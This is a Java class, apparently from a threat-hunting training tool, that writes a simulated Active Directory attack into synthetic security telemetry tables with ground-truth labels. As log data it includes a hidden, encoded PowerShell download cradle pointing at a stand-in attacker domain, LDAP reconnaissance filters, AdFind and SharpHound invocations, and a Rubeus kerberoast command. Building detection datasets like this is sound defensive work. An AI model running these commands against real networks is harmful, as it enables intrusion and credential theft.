package io.huntbook.tenant.demo;

import io.huntbook.tenant.demo.ProcessRun.Identity;
import io.huntbook.tenant.table.TableWriter;
import io.huntbook.tenant.truth.AttackRow;
import io.huntbook.tenant.truth.AttackStep;
import io.huntbook.tenant.truth.GroundTruth;
import io.huntbook.tenant.truth.Technique;
import java.nio.charset.StandardCharsets;
import java.sql.SQLException;
import java.time.Duration;
import java.time.Instant;
import java.time.LocalTime;
import java.util.ArrayList;
import java.util.Base64;
import java.util.List;
import java.util.SplittableRandom;

/**
 * The attack. Two days before the capture a macro document mailed to one employee starts a hidden
 * PowerShell; from it the attacker runs the seven {@code [adsisearcher]} searches of the classic
 * guided LDAP hunt and one for passwords left in descriptions, then SharpHound, AdFind and {@code
 * net group "Domain Admins" /domain}, and finally Kerberoasts the service accounts with Rubeus.
 * Every row it writes is recorded in the {@link GroundTruth}; its report ids come from the attack's
 * own stream, so they do not depend on the background.
 */
final class AttackStory {
  static final String ATTACKER_DOMAIN = "contoso-payments.com";
  static final String ATTACKER_IP = "203.0.113.66";

  private final Generation g;
  private final Sink sink;
  private final Directory directory;
  private final Account victim;
  private final Machine workstation;
  private final Machine dc;
  private final Instant day;
  private final SplittableRandom random;
  private final List<AttackRow> rows = new ArrayList<>();
  private final String downloads;
  private ProcessRun implant;
  private ProcessRun firstSearch;
  private ProcessRun sharpHound;
  private ProcessRun rubeus;

  AttackStory(Generation g) {
    this.g = g;
    this.sink = g.sink;
    this.directory = g.directory;
    this.victim = directory.victim();
    this.workstation = directory.victimWorkstation();
    this.dc = directory.dc(0);
    this.day = TimeWindow.dayOf(g.options.captureTime()).minus(Duration.ofDays(2));
    this.random = g.random("attack");
    this.downloads = "C:\\Users\\" + victim.sam() + "\\Downloads\\";
  }

  GroundTruth write() throws SQLException {
    initialAccess();
    adsisearcher();
    sharpHound();
    adFind();
    netGroup();
    kerberoast();
    alerts();
    return new GroundTruth(Directory.DOMAIN, victim.sam(), workstation.name(), rows);
  }

  private Instant at(String time) {
    return day.plusSeconds(LocalTime.parse(time).toSecondOfDay());
  }

  private void truth(
      String table, String key, Instant t, AttackStep step, Technique technique, String summary) {
    String keyColumn =
        switch (table) {
          case "AlertInfo", "AlertEvidence" -> "AlertId";
          case "EmailEvents", "EmailAttachmentInfo" -> "NetworkMessageId";
          default -> "ReportId";
        };
    rows.add(new AttackRow(table, keyColumn, key, t, step, technique, summary));
  }

  private void initialAccess() throws SQLException {
    Instant delivered = at("08:47:12");
    String messageId = Ids.uuid(random).toString();
    String sender = "payroll@" + ATTACKER_DOMAIN;
    TableWriter mail = sink.table("EmailEvents");
    mail.set("Timestamp", delivered);
    mail.set("NetworkMessageId", messageId);
    mail.set("InternetMessageId", "<" + Ids.hex(random, 24) + "@" + ATTACKER_DOMAIN + ">");
    mail.set("SenderMailFromAddress", sender);
    mail.set("SenderFromAddress", sender);
    mail.set("SenderDisplayName", "Contoso Payroll");
    mail.set("SenderMailFromDomain", ATTACKER_DOMAIN);
    mail.set("SenderFromDomain", ATTACKER_DOMAIN);
    mail.set("SenderIPv4", ATTACKER_IP);
    mail.set("RecipientEmailAddress", victim.upn());
    mail.set("RecipientObjectId", victim.objectId());
    mail.set("Subject", "Updated payroll schedule Q4");
    mail.set("EmailClusterId", 77_004_112L);
    mail.set("EmailDirection", "Inbound");
    mail.set("DeliveryAction", "Delivered");
    mail.set("DeliveryLocation", "Inbox/folder");
    mail.set("BulkComplaintLevel", 0);
    mail.set(
        "AuthenticationDetails",
        "{\"SPF\":\"pass\",\"DKIM\":\"none\",\"DMARC\":\"none\",\"CompAuth\":\"softpass\"}");
    mail.set("AttachmentCount", 1);
    mail.set("UrlCount", 0);
    mail.set("EmailLanguage", "en");
    mail.set("LatestDeliveryLocation", "Inbox/folder");
    mail.set("LatestDeliveryAction", "Delivered");
    sink.reportId(mail, Sink.ATTACK);
    mail.endRow();
    truth(
        "EmailEvents",
        messageId,
        delivered,
        AttackStep.INITIAL_ACCESS,
        Technique.PHISHING_ATTACHMENT,
        "macro document mailed to " + victim.upn());
    TableWriter attachment = sink.table("EmailAttachmentInfo");
    attachment.set("Timestamp", delivered);
    attachment.set("NetworkMessageId", messageId);
    attachment.set("SenderFromAddress", sender);
    attachment.set("SenderDisplayName", "Contoso Payroll");
    attachment.set("RecipientEmailAddress", victim.upn());
    attachment.set("RecipientObjectId", victim.objectId());
    attachment.set("FileName", "Payroll_Q4_2026.docm");
    attachment.set("FileType", "docm");
    attachment.set("SHA256", Ids.digest("SHA-256", "Payroll_Q4_2026.docm"));
    attachment.set("FileSize", 48_211L);
    sink.reportId(attachment, Sink.ATTACK);
    attachment.endRow();
    truth(
        "EmailAttachmentInfo",
        messageId,
        delivered,
        AttackStep.INITIAL_ACCESS,
        Technique.PHISHING_ATTACHMENT,
        "the macro document Payroll_Q4_2026.docm");

    Instant opened = at("09:02:31");
    ProcessRun outlook =
        Processes.userApp(
            workstation, victim, opened, Images.OUTLOOK, Processes.quoted(Images.OUTLOOK));
    String attachmentFolder =
        "C:\\Users\\"
            + victim.sam()
            + "\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\K3V9TQ2M\\";
    file(
        outlook,
        attachmentFolder,
        "Payroll_Q4_2026.docm",
        opened,
        "",
        AttackStep.INITIAL_ACCESS,
        Technique.PHISHING_ATTACHMENT,
        "Outlook saves the attachment");
    ProcessRun word =
        spawn(
            outlook,
            Images.WORD,
            Processes.quoted(Images.WORD)
                + " /n \""
                + attachmentFolder
                + "Payroll_Q4_2026.docm\" /o \"\"",
            opened.plusSeconds(2),
            AttackStep.INITIAL_ACCESS,
            Technique.PHISHING_ATTACHMENT,
            "the victim opens the document in Word");
    String script =
        "IEX (New-Object Net.WebClient).DownloadString('https://update." + ATTACKER_DOMAIN + "/a')";
    String encoded = Base64.getEncoder().encodeToString(script.getBytes(StandardCharsets.UTF_16LE));
    implant =
        spawn(
            word,
            Images.POWERSHELL,
            "powershell.exe -nop -w hidden -enc " + encoded,
            opened.plusSeconds(9),
            AttackStep.INITIAL_ACCESS,
            Technique.POWERSHELL,
            "the macro starts a hidden PowerShell");
    String id =
        NetworkRows.outbound(
            sink,
            Sink.ATTACK,
            opened.plusSeconds(10),
            workstation,
            implant,
            "ConnectionSuccess",
            ATTACKER_IP,
            443,
            "update." + ATTACKER_DOMAIN,
            Generation.ephemeralPort(random),
            "Tcp");
    truth(
        "DeviceNetworkEvents",
        id,
        opened.plusSeconds(10),
        AttackStep.INITIAL_ACCESS,
        Technique.POWERSHELL,
        "the implant reaches its server");
  }

  private record Guided(
      String time, String filter, Technique technique, String what, boolean properties) {}

  private void adsisearcher() throws SQLException {
    List<Guided> searches =
        List.of(
            new Guided(
                "09:14:05",
                "(memberOf=cn=Domain Admins,CN=Users,dc=contoso,dc=local)",
                Technique.DOMAIN_GROUPS_DISCOVERY,
                "members of Domain Admins",
                false),
            new Guided(
                "09:17:42",
                "(adminCount=1)",
                Technique.DOMAIN_ACCOUNT_DISCOVERY,
                "protected accounts (adminCount=1)",
                false),
            new Guided(
                "09:21:10",
                "(&(objectCategory=computer)(!(primaryGroupID=516)(userAccountControl:1.2.840.113556.1.4.803:=524288)))",
                Technique.REMOTE_SYSTEM_DISCOVERY,
                "computers trusted for unconstrained delegation",
                false),
            new Guided(
                "09:25:33",
                "(&(objectCategory=person)(objectClass=user)(userAccountControl:1.2.840.113556.1.4.803:=4194304))",
                Technique.AS_REP_ROASTING,
                "accounts without Kerberos pre-authentication (AS-REP roastable)",
                false),
            new Guided(
                "09:29:02",
                "(&(objectCategory=user)(!(samAccountName=krbtgt)(servicePrincipalName=*)))",
                Technique.KERBEROASTING,
                "user accounts with SPNs (Kerberoastable)",
                false),
            new Guided(
                "09:33:47",
                "(&(objectCategory=computer)(ms-MCS-AdmPwd=*))",
                Technique.UNSECURED_CREDENTIALS,
                "readable LAPS passwords (ms-Mcs-AdmPwd)",
                true),
            new Guided(
                "09:38:15",
                "(objectClass=trustedDomain)",
                Technique.DOMAIN_TRUST_DISCOVERY,
                "domain trusts",
                false),
            new Guided(
                "09:41:36",
                "(&(&(objectCategory=person)(objectClass=user))(|(description=*pass*)(comment=*pass*)))",
                Technique.UNSECURED_CREDENTIALS,
                "passwords left in descriptions or comments",
                false));
    for (Guided s : searches) {
      Instant t = at(s.time());
      String commandLine =
          "powershell.exe -c \"([adsisearcher]'"
              + s.filter()
              + "').FindAll()"
              + (s.properties() ? ".Properties" : "")
              + "\"";
      ProcessRun powershell =
          spawn(
              implant,
              Images.POWERSHELL,
              commandLine,
              t,
              AttackStep.ADSISEARCHER,
              s.technique(),
              "[adsisearcher] for " + s.what());
      if (firstSearch == null) {
        firstSearch = powershell;
      }
      ldap(
          powershell,
          LdapSearch.subtree(s.filter()),
          t.plusMillis(850),
          389,
          AttackStep.ADSISEARCHER,
          s.technique(),
          "LDAP search for " + s.what());
    }
  }

  private void sharpHound() throws SQLException {
    Image image =
        Image.of(
            downloads + "SharpHound.exe", "", "SharpHound", "2.5.9.0", "SharpHound", 1_286_144);
    Instant t = at("10:05:00");
    file(
        implant,
        downloads,
        "SharpHound.exe",
        t,
        "https://update." + ATTACKER_DOMAIN + "/s.exe",
        AttackStep.SHARPHOUND,
        Technique.DOMAIN_ACCOUNT_DISCOVERY,
        "SharpHound downloaded");
    sharpHound =
        spawn(
            implant,
            image,
            "\"" + downloads + "SharpHound.exe\" -c All --zipfilename corp.zip",
            t.plusSeconds(72),
            AttackStep.SHARPHOUND,
            Technique.DOMAIN_ACCOUNT_DISCOVERY,
            "SharpHound collection started");
    Instant next = t.plusSeconds(75);
    String id =
        NetworkRows.outbound(
            sink,
            Sink.ATTACK,
            next,
            workstation,
            sharpHound,
            "ConnectionSuccess",
            dc.ip(),
            389,
            "",
            Generation.ephemeralPort(random),
            "Tcp");
    truth(
        "DeviceNetworkEvents",
        id,
        next,
        AttackStep.SHARPHOUND,
        Technique.DOMAIN_ACCOUNT_DISCOVERY,
        "SharpHound connects to LDAP");
    for (SharpHoundFilters.Entry entry : SharpHoundFilters.collection(directory)) {
      next = next.plusMillis(600 + random.nextInt(2400));
      ldap(
          sharpHound,
          entry.search(),
          next,
          0,
          AttackStep.SHARPHOUND,
          entry.technique(),
          "SharpHound search " + entry.search().filter());
    }
    for (Machine server : directory.servers.subList(0, 6)) {
      next = next.plusMillis(300 + random.nextInt(900));
      id =
          NetworkRows.outbound(
              sink,
              Sink.ATTACK,
              next,
              workstation,
              sharpHound,
              "ConnectionSuccess",
              server.ip(),
              445,
              "",
              Generation.ephemeralPort(random),
              "Tcp");
      truth(
          "DeviceNetworkEvents",
          id,
          next,
          AttackStep.SHARPHOUND,
          Technique.REMOTE_SYSTEM_DISCOVERY,
          "SharpHound session enumeration on " + server.shortName());
    }
    file(
        sharpHound,
        downloads,
        "20261118101001_corp.zip",
        next.plusSeconds(4),
        "",
        AttackStep.SHARPHOUND,
        Technique.DOMAIN_ACCOUNT_DISCOVERY,
        "SharpHound writes its results");
  }

  private void adFind() throws SQLException {
    String folder = "C:\\Users\\Public\\";
    Image image =
        Image.of(
            folder + "AdFind.exe",
            "joeware.net",
            "AdFind",
            "1.57.0.0",
            "Joeware ADFind",
            1_620_480);
    Instant t = at("10:30:12");
    file(
        implant,
        folder,
        "AdFind.exe",
        t,
        "https://update." + ATTACKER_DOMAIN + "/f.exe",
        AttackStep.ADFIND,
        Technique.DOMAIN_ACCOUNT_DISCOVERY,
        "AdFind downloaded");
    ProcessRun cmd =
        spawn(
            implant,
            Images.CMD,
            "\"C:\\Windows\\system32\\cmd.exe\"",
            t.plusSeconds(30),
            AttackStep.ADFIND,
            Technique.DOMAIN_ACCOUNT_DISCOVERY,
            "a command shell for AdFind");
    record Run(String arguments, String filter, Technique technique, int port, String what) {}
    List<Run> runs =
        List.of(
            new Run(
                "-f \"(objectcategory=person)\" > ad_users.txt",
                "(objectcategory=person)",
                Technique.DOMAIN_ACCOUNT_DISCOVERY,
                389,
                "all people"),
            new Run(
                "-f \"objectcategory=computer\" > ad_computers.txt",
                "(objectcategory=computer)",
                Technique.REMOTE_SYSTEM_DISCOVERY,
                389,
                "all computers"),
            new Run(
                "-f \"(objectcategory=group)\" > ad_group.txt",
                "(objectcategory=group)",
                Technique.DOMAIN_GROUPS_DISCOVERY,
                389,
                "all groups"),
            new Run(
                "-gcb -sc trustdmp > trustdmp.txt",
                "(objectcategory=trustedDomain)",
                Technique.DOMAIN_TRUST_DISCOVERY,
                3268,
                "trusts (trustdmp)"));
    Instant next = t.plusSeconds(45);
    for (Run run : runs) {
      next = next.plusSeconds(20 + random.nextInt(40));
      ProcessRun adfind =
          spawn(
              cmd,
              image,
              folder + "AdFind.exe " + run.arguments(),
              next,
              AttackStep.ADFIND,
              run.technique(),
              "AdFind lists " + run.what());
      ldap(
          adfind,
          LdapSearch.subtree(run.filter()),
          next.plusMillis(400),
          run.port(),
          AttackStep.ADFIND,
          run.technique(),
          "AdFind search for " + run.what());
    }
  }

  private void netGroup() throws SQLException {
    Instant t = at("10:48:40");
    ProcessRun cmd =
        spawn(
            implant,
            Images.CMD,
            "cmd.exe /c net group \"Domain Admins\" /domain",
            t,
            AttackStep.NET_GROUP,
            Technique.DOMAIN_GROUPS_DISCOVERY,
            "net group \"Domain Admins\" /domain");
    ProcessRun net =
        spawn(
            cmd,
            Images.NET,
            "net  group \"Domain Admins\" /domain",
            t.plusMillis(120),
            AttackStep.NET_GROUP,
            Technique.DOMAIN_GROUPS_DISCOVERY,
            "net.exe queries Domain Admins");
    ProcessRun net1 =
        spawn(
            net,
            Images.NET1,
            "C:\\Windows\\system32\\net1  group \"Domain Admins\" /domain",
            t.plusMillis(180),
            AttackStep.NET_GROUP,
            Technique.DOMAIN_GROUPS_DISCOVERY,
            "net1.exe queries Domain Admins");
    int port = Generation.ephemeralPort(random);
    Instant connect = t.plusMillis(260);
    String id =
        NetworkRows.outbound(
            sink,
            Sink.ATTACK,
            connect,
            workstation,
            net1,
            "ConnectionSuccess",
            dc.ip(),
            445,
            "",
            port,
            "Tcp");
    truth(
        "DeviceNetworkEvents",
        id,
        connect,
        AttackStep.NET_GROUP,
        Technique.DOMAIN_GROUPS_DISCOVERY,
        "SAMR over SMB to the domain controller");
    TableWriter row = sink.table("IdentityQueryEvents");
    Instant queried = t.plusMillis(310);
    row.set("Timestamp", queried);
    row.set("ActionType", "SAMR query");
    row.set("Application", "Active Directory");
    row.set("QueryType", "QueryGroup");
    row.set("QueryTarget", "Domain Admins");
    row.set("Query", "QueryGroup");
    row.set("Protocol", "Samr");
    identityAccount(row);
    row.set("DeviceName", workstation.name());
    row.set("IPAddress", workstation.ip());
    row.set("Port", port);
    row.set("DestinationDeviceName", dc.name());
    row.set("DestinationIPAddress", dc.ip());
    row.set("DestinationPort", 445);
    row.set(
        "AdditionalFields",
        Json.object(
            "TARGET_OBJECT.GROUP",
            "Domain Admins",
            "TARGET_OBJECT.GROUP_SID",
            directory.domainSid + "-512",
            "FROM.DEVICE",
            workstation.shortName(),
            "TO.DEVICE",
            dc.shortName()));
    id = sink.reportId(row, Sink.ATTACK);
    row.endRow();
    truth(
        "IdentityQueryEvents",
        id,
        queried,
        AttackStep.NET_GROUP,
        Technique.DOMAIN_GROUPS_DISCOVERY,
        "SAMR QueryGroup Domain Admins at " + dc.shortName());
  }

  private void kerberoast() throws SQLException {
    Image image = Image.of(downloads + "Rubeus.exe", "", "Rubeus", "2.3.2.0", "Rubeus", 446_976);
    Instant t = at("11:15:20");
    file(
        implant,
        downloads,
        "Rubeus.exe",
        t,
        "https://update." + ATTACKER_DOMAIN + "/r.exe",
        AttackStep.KERBEROAST,
        Technique.KERBEROASTING,
        "Rubeus downloaded");
    rubeus =
        spawn(
            implant,
            image,
            "\"" + downloads + "Rubeus.exe\" kerberoast /outfile:C:\\Users\\Public\\hashes.txt",
            t.plusSeconds(50),
            AttackStep.KERBEROAST,
            Technique.KERBEROASTING,
            "Rubeus kerberoast");
    String filter =
        "(&(samAccountType=805306368)(servicePrincipalName=*)(!samAccountName=krbtgt)(!(UserAccountControl:1.2.840.113556.1.4.803:=2)))";
    Instant next = t.plusSeconds(51);
    ldap(
        rubeus,
        LdapSearch.subtree(
            filter,
            "samaccountname",
            "distinguishedname",
            "serviceprincipalname",
            "pwdlastset",
            "msds-supportedencryptiontypes",
            "useraccountcontrol"),
        next,
        389,
        AttackStep.KERBEROAST,
        Technique.KERBEROASTING,
        "Rubeus looks for accounts with SPNs");
    for (Account service : directory.services) {
      if (service.servicePrincipalNames().isEmpty()) {
        continue;
      }
      next = next.plusMillis(150 + random.nextInt(300));
      int port = Generation.ephemeralPort(random);
      String spn = service.servicePrincipalNames().get(0);
      String id =
          NetworkRows.outbound(
              sink,
              Sink.ATTACK,
              next,
              workstation,
              rubeus,
              "ConnectionSuccess",
              dc.ip(),
              88,
              "",
              port,
              "Tcp");
      truth(
          "DeviceNetworkEvents",
          id,
          next,
          AttackStep.KERBEROAST,
          Technique.KERBEROASTING,
          "Kerberos TGS request for " + spn);
      TableWriter row = sink.table("IdentityLogonEvents");
      row.set("Timestamp", next.plusMillis(20));
      row.set("ActionType", "LogonSuccess");
      row.set("Application", "Active Directory");
      row.set("LogonType", "Resource access");
      row.set("Protocol", "Kerberos");
      row.set("AccountName", victim.sam());
      row.set("AccountDomain", Directory.DOMAIN);
      row.set("AccountUpn", victim.upn());
      row.set("AccountSid", victim.sid());
      row.set("AccountObjectId", victim.objectId());
      row.set("AccountDisplayName", victim.displayName());
      row.set("DeviceName", workstation.name());
      row.set("DeviceType", "Workstation");
      row.set("OSPlatform", workstation.osPlatform());
      row.set("IPAddress", workstation.ip());
      row.set("Port", port);
      row.set("DestinationDeviceName", dc.name());
      row.set("DestinationIPAddress", dc.ip());
      row.set("DestinationPort", 88);
      row.set("TargetAccountDisplayName", service.displayName());
      row.set(
          "AdditionalFields",
          Json.object(
              "Spns",
              spn,
              "EncryptionType",
              "Rc4Hmac",
              "TicketType",
              "ServiceTicket",
              "ACTOR.DEVICE",
              workstation.shortName(),
              "TO.DEVICE",
              dc.shortName()));
      id = sink.reportId(row, Sink.ATTACK);
      row.endRow();
      truth(
          "IdentityLogonEvents",
          id,
          next.plusMillis(20),
          AttackStep.KERBEROAST,
          Technique.KERBEROASTING,
          "service ticket (RC4) for " + spn);
    }
    file(
        rubeus,
        "C:\\Users\\Public\\",
        "hashes.txt",
        next.plusSeconds(1),
        "",
        AttackStep.KERBEROAST,
        Technique.KERBEROASTING,
        "Rubeus writes the crackable tickets");
  }

  private void alerts() throws SQLException {
    alert(
        AlertRows.Source.ENDPOINT,
        at("09:15:02"),
        "Suspicious LDAP query",
        "Discovery",
        "Medium",
        List.of(Technique.DOMAIN_ACCOUNT_DISCOVERY, Technique.DOMAIN_GROUPS_DISCOVERY),
        firstSearch,
        AttackStep.ADSISEARCHER);
    alert(
        AlertRows.Source.IDENTITY,
        at("10:08:30"),
        "Security principal reconnaissance (LDAP)",
        "Discovery",
        "Medium",
        List.of(Technique.DOMAIN_ACCOUNT_DISCOVERY),
        sharpHound,
        AttackStep.SHARPHOUND);
    alert(
        AlertRows.Source.IDENTITY,
        at("10:49:05"),
        "User and group membership reconnaissance (SAMR)",
        "Discovery",
        "Medium",
        List.of(Technique.DOMAIN_GROUPS_DISCOVERY),
        null,
        AttackStep.NET_GROUP);
    alert(
        AlertRows.Source.IDENTITY,
        at("11:16:40"),
        "Suspected Kerberos SPN exposure",
        "CredentialAccess",
        "High",
        List.of(Technique.KERBEROASTING),
        null,
        AttackStep.KERBEROAST);
    alert(
        AlertRows.Source.ENDPOINT,
        at("11:17:02"),
        "Possible Kerberoasting activity",
        "CredentialAccess",
        "High",
        List.of(Technique.KERBEROASTING),
        rubeus,
        AttackStep.KERBEROAST);
  }

  private void alert(
      AlertRows.Source source,
      Instant t,
      String title,
      String category,
      String severity,
      List<Technique> techniques,
      ProcessRun process,
      AttackStep step)
      throws SQLException {
    String alertId = AlertRows.alertId(source, random.nextLong());
    List<AlertRows.Evidence> evidence = new ArrayList<>();
    evidence.add(AlertRows.user(victim));
    evidence.add(AlertRows.machine(workstation));
    if (process != null) {
      evidence.add(AlertRows.process(workstation, process));
    }
    AlertRows.write(sink, alertId, t, title, category, severity, source, techniques, evidence);
    truth("AlertInfo", alertId, t, step, techniques.get(0), "alert: " + title);
    truth("AlertEvidence", alertId, t, step, techniques.get(0), "evidence of: " + title);
  }

  /** Starts a process: one DeviceProcessEvents row, recorded in the ground truth. */
  private ProcessRun spawn(
      ProcessRun parent,
      Image image,
      String commandLine,
      Instant t,
      AttackStep step,
      Technique technique,
      String summary)
      throws SQLException {
    ProcessRun process = Processes.child(parent, image, commandLine, t, rows.size());
    String id =
        ProcessBackground.writeCreated(
            sink, Sink.ATTACK, sink.table("DeviceProcessEvents"), t, workstation, process);
    truth("DeviceProcessEvents", id, t, step, technique, summary);
    return process;
  }

  /**
   * One LDAP search: the endpoint event, the connection (unless {@code port} is 0: an open one is
   * reused) and the domain controller's record, all in the ground truth.
   */
  private void ldap(
      ProcessRun process,
      LdapSearch search,
      Instant t,
      int port,
      AttackStep step,
      Technique technique,
      String summary)
      throws SQLException {
    int localPort = Generation.ephemeralPort(random);
    if (port != 0) {
      String id =
          NetworkRows.outbound(
              sink,
              Sink.ATTACK,
              t.minusMillis(12),
              workstation,
              process,
              "ConnectionSuccess",
              dc.ip(),
              port,
              "",
              localPort,
              "Tcp");
      truth(
          "DeviceNetworkEvents",
          id,
          t.minusMillis(12),
          step,
          technique,
          "LDAP connection (" + port + ") for: " + summary);
    }
    String id = LdapTelemetry.endpoint(sink, Sink.ATTACK, t, workstation, process, search);
    truth("DeviceEvents", id, t, step, technique, summary);
    Instant atDc = t.plusMillis(9);
    id =
        LdapTelemetry.directory(
            sink,
            Sink.ATTACK,
            atDc,
            workstation,
            Identity.of(victim),
            victim.displayName(),
            dc,
            search,
            localPort);
    truth(
        "IdentityQueryEvents",
        id,
        atDc,
        step,
        technique,
        summary + " (seen at " + dc.shortName() + ")");
  }

  private void file(
      ProcessRun process,
      String folder,
      String fileName,
      Instant t,
      String originUrl,
      AttackStep step,
      Technique technique,
      String summary)
      throws SQLException {
    TableWriter row = sink.table("DeviceFileEvents");
    row.set("Timestamp", t);
    RowFiller.device(row, workstation);
    row.set("ActionType", "FileCreated");
    row.set("FileName", fileName);
    row.set("FolderPath", folder + fileName);
    row.set("SHA1", Ids.digest("SHA-1", fileName));
    row.set("SHA256", Ids.digest("SHA-256", fileName));
    row.set("MD5", Ids.digest("MD5", fileName));
    row.set("FileSize", 1_000L + Math.floorMod(fileName.hashCode(), 2_000_000));
    if (!originUrl.isEmpty()) {
      row.set("FileOriginUrl", originUrl);
      row.set("FileOriginIP", ATTACKER_IP);
    }
    RowFiller.initiating(row, process);
    row.set("IsAzureInfoProtectionApplied", false);
    String id = sink.reportId(row, Sink.ATTACK);
    row.endRow();
    truth("DeviceFileEvents", id, t, step, technique, summary);
  }

  private void identityAccount(TableWriter row) {
    row.set("AccountName", victim.sam());
    row.set("AccountDomain", Directory.DOMAIN);
    row.set("AccountUpn", victim.upn());
    row.set("AccountSid", victim.sid());
    row.set("AccountObjectId", victim.objectId());
    row.set("AccountDisplayName", victim.displayName());
  }
}
